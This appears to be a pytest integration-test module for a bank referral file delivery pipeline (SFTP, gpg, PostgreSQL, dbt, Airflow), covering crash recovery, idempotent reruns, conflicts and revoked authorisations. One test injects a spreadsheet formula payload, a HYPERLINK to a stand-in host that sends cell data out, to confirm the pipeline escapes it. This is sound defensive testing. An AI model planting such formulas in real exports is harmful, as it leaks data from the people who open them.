"""Bank referral drops end to end on a dbt-built, gated and published county: the real asyncssh SFTP
server on loopback, real gpg, real PostgreSQL. Every interrupted step is finished by a rerun; what is
in the inbox is adopted only if it is ours; a conflict waits for a person and a re-delivery. About
40 s for the module (one dbt build, two GX validations, a dozen deliveries)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import date, timedelta
from types import SimpleNamespace

import pytest
import sqlalchemy as sa

from tests.support import gated_marts, reset_warehouse, select_gated_marts

pytestmark = pytest.mark.integration

D = date(2026, 11, 12)
BANK, PRODUCT = "GSRCB", "NSXYD"
SFTP_PORT = 55105  # this engineer's stand-in port range (55104-55109)


@pytest.fixture(scope="module")
def county(engine, tmp_path_factory):
    import os

    from zxt.bank import pgp
    from zxt.core.settings import get_settings, reset_settings
    from zxt.ingest import load as ingest
    from zxt.ingest import source_gate
    from zxt.quality import mart_gate, publish
    from zxt.transform import dbt_runner
    from zxt_sandbox import bank_keys, sftp_server, synth

    work = tmp_path_factory.mktemp("bank")
    env = {
        "ZXT_LANDING_DIR": str(work / "landing"),
        "ZXT_ARCHIVE_DIR": str(work / "archive"),
        "ZXT_TODAY": (D + timedelta(days=1)).isoformat(),
        "ZXT_SFTP_PORT": str(SFTP_PORT),
        "ZXT_SFTP_KNOWN_HOSTS": str(work / "known_hosts"),
        "ZXT_GNUPG_HOME": str(work / "gnupg"),
    }
    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    reset_settings()
    settings = get_settings()
    reset_warehouse(engine)
    synth.generate(work / "landing", D, D, enterprises=300, seed=11)
    ingest.ingest_until(D)
    dbt_runner.invoke(["seed"])
    dbt_runner.invoke(["run", *select_gated_marts()], as_of=D)
    source_gate.check_sources(D)
    assert all(mart_gate.check_mart(m, D).success for m in gated_marts())
    publish.publish(D)
    bank_keys.ensure_demo_keys(settings, [BANK])
    sftp_server.ensure_server_files(settings, {BANK: settings.bank.sftp_password(BANK)})
    server = sftp_server.serve_in_thread(settings, "127.0.0.1", SFTP_PORT)
    try:
        yield SimpleNamespace(
            settings=settings,
            engine=engine,
            inbox=sftp_server.inbox_dir(settings, BANK),
            audit=sftp_server.audit_path(settings),
        )
    finally:
        server.stop()
        pgp.shutdown_agent(settings)
        for k, v in saved.items():
            os.environ.pop(k, None) if v is None else os.environ.__setitem__(k, v)
        reset_settings()


@pytest.fixture
def fresh(county):
    """No delivery yet: empty inbox, empty ledger."""
    with county.engine.begin() as conn:
        conn.execute(sa.text("delete from delivery.bank_ledger"))
    county.inbox.mkdir(parents=True, exist_ok=True)
    for p in county.inbox.iterdir():
        p.unlink()
    return county


def deliver(settings=None, **kw):
    from zxt.bank import drop

    return drop.deliver_bank_referrals(D, settings, **kw)


def inbox(county) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(county.inbox.iterdir())}


def ledger(county) -> list:
    with county.engine.connect() as conn:
        return conn.execute(
            sa.text(
                "select seq, status, replaces, ciphertext_sha256, payload, note from delivery.bank_ledger order by seq"
            )
        ).all()


def mart_csv(county) -> bytes:
    from zxt.bank import referral_file

    with county.engine.connect() as conn:
        rows = (
            conn.execute(
                sa.text(
                    "select * from marts.bank_referral where as_of_date = :d and bank_code = :b order by uscc"
                ),
                {"d": D, "b": BANK},
            )
            .mappings()
            .all()
        )
    return referral_file.build_csv(rows)


def renames(county, since: int) -> list[str]:
    lines = county.audit.read_text().splitlines()[since:]
    return [json.loads(x)["dst"] for x in lines if json.loads(x)["op"] == "rename"]


def audit_len(county) -> int:
    return len(county.audit.read_text().splitlines()) if county.audit.exists() else 0


STEM = f"ZXT_{BANK}_REFERRAL_{D:%Y%m%d}"


def test_delivers_once_encrypted_with_manifest_and_marker_last(fresh):
    from zxt.bank import pgp

    mark = audit_len(fresh)
    [result] = deliver()
    names = [f"{STEM}_01.csv.gpg", f"{STEM}_01.manifest.json", f"{STEM}_01.ok"]
    assert (result.status, result.seq) == ("delivered", 1) and result.rows > 0
    assert renames(fresh, mark) == names  # data, manifest, marker last
    files = inbox(fresh)
    plaintext, _signer = pgp.decrypt_and_verify(fresh.settings, files[names[0]])
    assert plaintext == mart_csv(fresh)
    entry = json.loads(files[names[1]])["files"][0]
    assert entry["plaintext_sha256"] == hashlib.sha256(plaintext).hexdigest()
    assert entry["ciphertext_sha256"] == hashlib.sha256(files[names[0]]).hexdigest()
    [(seq, status, replaces, cipher_sha, payload, _note)] = ledger(fresh)
    assert (seq, status, replaces, payload) == (1, "delivered", None, None)  # the bytes are the bank's now

    [again] = deliver()
    assert again.status == "already_delivered" and inbox(fresh) == files and renames(fresh, mark) == names


class Crash(Exception):
    """The worker died here."""


@pytest.mark.parametrize("uploaded_before_crash", [0, 1, 2, 3])
def test_every_interrupted_step_is_finished_by_a_rerun(fresh, monkeypatch, uploaded_before_crash):
    from zxt.bank import pgp
    from zxt.bank import sftp as bank_upload

    real_put = bank_upload.put_missing

    def crashing_put(settings, bank, password, files, **kw):
        real_put(settings, bank, password, files[:uploaded_before_crash], **kw)
        if uploaded_before_crash < len(files):  # the next file only got as far as its .tmp
            (fresh.inbox / (files[uploaded_before_crash][0] + ".tmp")).write_bytes(b"half a file")
        raise Crash

    monkeypatch.setattr(bank_upload, "put_missing", crashing_put)
    with pytest.raises(Crash):
        deliver()
    [(_, status, *_rest)] = ledger(fresh)
    assert status == "prepared"
    monkeypatch.setattr(bank_upload, "put_missing", real_put)

    mark = audit_len(fresh)
    [result] = deliver()
    assert result.status == "delivered"
    files = inbox(fresh)
    names = [f"{STEM}_01.csv.gpg", f"{STEM}_01.manifest.json", f"{STEM}_01.ok"]
    assert sorted(files) == sorted(names)  # the stale .tmp was replaced, nothing else left behind
    assert renames(fresh, mark) == names[uploaded_before_crash:]  # each file put in place once, never again
    assert pgp.decrypt_and_verify(fresh.settings, files[names[0]])[0] == mart_csv(fresh)
    manifest = json.loads(files[names[1]])
    assert manifest["files"][0]["ciphertext_sha256"] == hashlib.sha256(files[names[0]]).hexdigest()
    assert [r.status for r in ledger(fresh)] == ["delivered"]


def test_an_earlier_delivery_of_the_same_data_is_adopted_and_its_marker_completed(fresh):
    deliver()
    with fresh.engine.begin() as conn:  # the record of it was lost (say, a restore of the warehouse)
        conn.execute(sa.text("delete from delivery.bank_ledger"))
    (fresh.inbox / f"{STEM}_01.ok").unlink()  # and the marker never made it
    before = inbox(fresh)

    [result] = deliver()
    assert result.status == "delivered" and result.seq == 1
    after = inbox(fresh)
    assert {k: v for k, v in after.items() if not k.endswith(".ok")} == before  # adopted, not re-sent
    assert f"{STEM}_01.ok" in after
    [row] = ledger(fresh)
    assert row.status == "delivered" and "adopted" in row.note
    assert row.ciphertext_sha256 == hashlib.sha256(before[f"{STEM}_01.csv.gpg"]).hexdigest()


def test_a_different_delivery_is_refused_once_then_redelivered_under_the_next_seq(fresh):
    from zxt.core.errors import DeliveryConflict

    deliver()
    first = inbox(fresh)
    with fresh.engine.begin() as conn:  # ledger lost, and the date's data changed since
        conn.execute(sa.text("delete from delivery.bank_ledger"))
        conn.execute(
            sa.text(
                """update marts.bank_referral set years_in_business = years_in_business + 1
                   where as_of_date = :d and uscc = (select min(uscc) from marts.bank_referral where as_of_date = :d)"""
            ),
            {"d": D},
        )
    try:
        with pytest.raises(DeliveryConflict, match="--redeliver --bank GSRCB --product NSXYD"):
            deliver()
        assert inbox(fresh) == first  # nothing overwritten
        assert [r.status for r in ledger(fresh)] == ["conflict"]
        with pytest.raises(DeliveryConflict, match="earlier attempt found different files"):
            deliver()  # fails at once until a person decides

        [result] = deliver(redeliver=True)
        assert (result.status, result.seq) == ("delivered", 2)
        files = inbox(fresh)
        assert {f"{STEM}_02.csv.gpg", f"{STEM}_02.manifest.json", f"{STEM}_02.ok"} | set(first) == set(files)
        assert json.loads(files[f"{STEM}_02.manifest.json"])["replaces"] == 1
        assert [(r.seq, r.status, r.replaces) for r in ledger(fresh)] == [
            (1, "conflict", None),
            (2, "delivered", 1),
        ]
        [same] = deliver(redeliver=True)  # nothing changed since seq 02: nothing more to send
        assert (same.status, same.seq) == ("unchanged", 2)
    finally:
        with fresh.engine.begin() as conn:
            conn.execute(
                sa.text(
                    """update marts.bank_referral set years_in_business = years_in_business - 1
                       where as_of_date = :d and uscc = (select min(uscc) from marts.bank_referral where as_of_date = :d)"""
                ),
                {"d": D},
            )


def test_a_data_file_without_its_manifest_and_no_record_is_a_conflict_not_an_sftp_error(fresh, monkeypatch):
    from zxt.bank import sftp as bank_upload
    from zxt.core.errors import DeliveryConflict

    real_put = bank_upload.put_missing

    def crash_after_data(settings, bank, password, files, **kw):
        real_put(settings, bank, password, files[:1], **kw)
        raise Crash

    monkeypatch.setattr(bank_upload, "put_missing", crash_after_data)
    with pytest.raises(Crash):
        deliver()
    monkeypatch.setattr(bank_upload, "put_missing", real_put)
    with fresh.engine.begin() as conn:
        conn.execute(sa.text("delete from delivery.bank_ledger"))  # nothing says the data file is ours
    with pytest.raises(DeliveryConflict, match="is not the file prepared"):
        deliver()


def test_cipher_none_sends_the_plain_csv(fresh, monkeypatch):
    monkeypatch.setenv("ZXT_BANK_CIPHER_GSRCB", "none")
    [result] = deliver()
    files = inbox(fresh)
    assert set(files) == {f"{STEM}_01.csv", f"{STEM}_01.manifest.json", f"{STEM}_01.ok"}
    assert files[f"{STEM}_01.csv"] == mart_csv(fresh)
    manifest = json.loads(files[f"{STEM}_01.manifest.json"])
    assert manifest["cipher"] == "none" and manifest["files"][0]["ciphertext_sha256"] is None
    assert manifest["files"][0]["plaintext_sha256"] == hashlib.sha256(files[f"{STEM}_01.csv"]).hexdigest()
    assert result.rows == len(list(csv.DictReader(io.StringIO(files[f"{STEM}_01.csv"].decode()))))


def test_a_name_that_looks_like_a_formula_reaches_the_bank_as_text(fresh, monkeypatch):
    from zxt.transform import dbt_runner

    monkeypatch.setenv("ZXT_BANK_CIPHER_GSRCB", "none")
    evil = '=HYPERLINK("http://x.example/?"&A1,"查看")'
    with fresh.engine.begin() as conn:
        uscc = conn.execute(
            sa.text(
                """select min(uscc) from marts.bank_referral where as_of_date = :d
                   and '|' || authorised_scope || '|' like '%|basic|%'"""
            ),
            {"d": D},
        ).scalar()
        original = conn.execute(
            sa.text("select taxpayer_name from raw.tax__taxpayers where uscc = :u and _drop_date = :d"),
            {"u": uscc, "d": D},
        ).scalar()
        conn.execute(
            sa.text("update raw.tax__taxpayers set taxpayer_name = :n where uscc = :u and _drop_date = :d"),
            {"n": evil, "u": uscc, "d": D},
        )
    try:
        dbt_runner.invoke(["run", "--select", "stg_tax__taxpayers", "bank_referral"], as_of=D)
        deliver()
        rows = list(csv.DictReader(io.StringIO(inbox(fresh)[f"{STEM}_01.csv"].decode())))
        [row] = [r for r in rows if r["uscc"] == uscc]
        assert row["taxpayer_name"] == "'" + evil
    finally:
        with fresh.engine.begin() as conn:
            conn.execute(
                sa.text(
                    "update raw.tax__taxpayers set taxpayer_name = :n where uscc = :u and _drop_date = :d"
                ),
                {"n": original, "u": uscc, "d": D},
            )
        dbt_runner.invoke(["run", "--select", "stg_tax__taxpayers", "bank_referral"], as_of=D)


def test_an_authorisation_revoked_since_the_build_refuses_the_file(fresh):
    from zxt.core.errors import DeliveryConflict

    today = D + timedelta(days=1)
    with fresh.engine.begin() as conn:
        auth, uscc = conn.execute(
            sa.text(
                "select authorisation_id, uscc from marts.bank_referral where as_of_date = :d order by uscc limit 1"
            ),
            {"d": D},
        ).one()
        conn.execute(
            sa.text("update raw.bank__authorisations set revoked_date = :t where authorisation_id = :a"),
            {"t": today, "a": auth},
        )
    try:
        with pytest.raises(
            DeliveryConflict,
            match=rf"1 row\(s\) have no current authorisation .*{uscc} \({auth}\): revoked on {today}",
        ):
            deliver()
        assert inbox(fresh) == {} and ledger(fresh) == []  # nothing prepared, nothing sent
    finally:
        with fresh.engine.begin() as conn:
            conn.execute(
                sa.text(
                    "update raw.bank__authorisations set revoked_date = null where authorisation_id = :a"
                ),
                {"a": auth},
            )


def test_an_unreachable_server_fails_with_the_reason_and_the_rerun_completes(fresh):
    from tests.support import free_port
    from zxt.bank.drop import BankDeliveryError

    with pytest.raises(BankDeliveryError, match="stays prepared .* a rerun of the bank drop completes it"):
        deliver(fresh.settings.with_(bank__sftp_port=free_port()))
    assert [r.status for r in ledger(fresh)] == ["prepared"]
    [result] = deliver()
    assert result.status == "delivered"


def test_the_airflow_task_fails_once_without_retry_on_a_conflict(fresh, monkeypatch):
    from airflow.exceptions import AirflowFailException

    from zxt.orchestration.tasks import delivery as tasks

    with fresh.engine.begin() as conn:
        conn.execute(
            sa.text(
                """insert into delivery.bank_ledger (bank_code, product_code, business_date, seq, data_file,
                     manifest_file, marker_file, row_count, plaintext_sha256, status, note)
                   values (:b, :p, :d, 1, 'x', 'y', 'z', 0, repeat('0', 64), 'conflict', 'found a different file')"""
            ),
            {"b": BANK, "p": PRODUCT, "d": D},
        )
    monkeypatch.setattr(tasks, "as_of", lambda: D)
    monkeypatch.setattr(
        tasks, "get_current_context", lambda: {"dag_run": SimpleNamespace(run_type="scheduled")}
    )
    with pytest.raises(AirflowFailException, match="--redeliver"):
        tasks.bank_drop.function()
